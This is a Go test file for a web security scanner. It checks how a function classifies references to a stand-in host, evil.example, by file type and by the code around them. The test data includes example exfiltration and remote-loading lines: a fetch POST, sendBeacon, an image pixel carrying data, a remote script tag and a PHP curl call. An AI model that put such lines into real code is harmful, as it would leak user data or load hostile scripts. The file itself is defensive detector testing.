package scanner

import (
	"strings"
	"testing"

	"github.com/shieldscan/shieldscan/rules"
)

// TestContextOf: what a line does with a reference, by file kind and by the text before it.
func TestContextOf(t *testing.T) {
	tests := []struct {
		name, path, line string
		want             rules.Context
	}{
		{"script tag", "web/index.html", `<script src="https://evil.example/x.js"></script>`, rules.CtxScriptSrc},
		{"link tag", "web/index.html", `<link rel="stylesheet" href="https://evil.example/x.css">`, rules.CtxLink},
		{"css url", "web/site.css", `body { background: url(https://evil.example/a.png) }`, rules.CtxCSSURL},
		{"css import", "web/site.css", `@import "https://evil.example/a.css";`, rules.CtxCSSURL},
		{"es import", "src/a.js", `import x from "https://evil.example/m.js";`, rules.CtxJSImport},
		{"require", "src/a.js", `const m = require("https://evil.example/m.js");`, rules.CtxJSImport},
		{"fetch", "src/a.js", `fetch("https://evil.example/c", {method: "POST"})`, rules.CtxJSNetwork},
		{"beacon", "src/a.js", `navigator.sendBeacon("https://evil.example/c", d)`, rules.CtxJSNetwork},
		{"image src", "src/a.js", `new Image().src = "https://evil.example/p.gif?" + c`, rules.CtxJSNetwork},
		{"php curl", "app/pay.php", `$c = curl_init("https://evil.example/c");`, rules.CtxJSNetwork},
		{"csp header", "nginx/site.conf", `add_header Content-Security-Policy "script-src 'self' https://evil.example";`, rules.CtxCSP},
		{"csp meta", "web/index.html", `<meta http-equiv="Content-Security-Policy" content="connect-src https://evil.example">`, rules.CtxCSP},
		{"server config", "deploy/site.conf", `proxy_pass https://evil.example;`, rules.CtxServerConfig},
		{"htaccess", "public/.htaccess", `Redirect 301 / https://evil.example/`, rules.CtxServerConfig},
		{"yaml config", "config/app.yml", `analytics: https://evil.example/a.js`, rules.CtxConfig},
		{"terraform", "infra/main.tf", `url = "https://evil.example"`, rules.CtxConfig},
		{"markdown", "README.md", `Load <script src="https://evil.example/x.js">`, rules.CtxDocs},
		{"line comment", "src/a.js", `// old: https://evil.example/x.js`, rules.CtxComment},
		{"trailing comment", "src/a.js", `var a = 1; // https://evil.example/x.js`, rules.CtxComment},
		{"html comment", "web/index.html", `<!-- <script src="https://evil.example/x.js"> -->`, rules.CtxComment},
		{"hash comment in yaml", "config/app.yml", `# was https://evil.example`, rules.CtxComment},
		{"hash is no comment in css", "web/site.css", `#id { background: url(https://evil.example/a.png) }`, rules.CtxCSSURL},
		{"scheme is no comment", "src/a.js", `var u = "https://evil.example/x.js";`, rules.CtxOther},
		{"plain string", "src/a.js", `var host = "evil.example";`, rules.CtxOther},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			col := strings.Index(tt.line, "evil.example")
			if i := strings.LastIndex(tt.line[:col], "https://"); i >= 0 && i+len("https://") == col {
				col = i
			}
			if got := ContextOf(tt.path, []byte(tt.line), col); got != tt.want {
				t.Errorf("ContextOf(%q, %q, %d) = %s, want %s", tt.path, tt.line, col, got, tt.want)
			}
		})
	}
}

// TestContextOfLongLine: only the neighbourhood of the reference counts, not a url( far away on
// a minified line, and a column past the end is clamped.
func TestContextOfLongLine(t *testing.T) {
	line := "a{background:url(x.png)}" + strings.Repeat(";", 4*contextWindow) + `fetch("https://evil.example/c")`
	col := strings.Index(line, "https://")
	if got := ContextOf("web/app.min.js", []byte(line), col); got != rules.CtxJSNetwork {
		t.Errorf("ContextOf(long line) = %s, want %s", got, rules.CtxJSNetwork)
	}
	if got := ContextOf("src/a.js", []byte("x"), 99); got != rules.CtxOther {
		t.Errorf("ContextOf(column past the end) = %s, want %s", got, rules.CtxOther)
	}
}
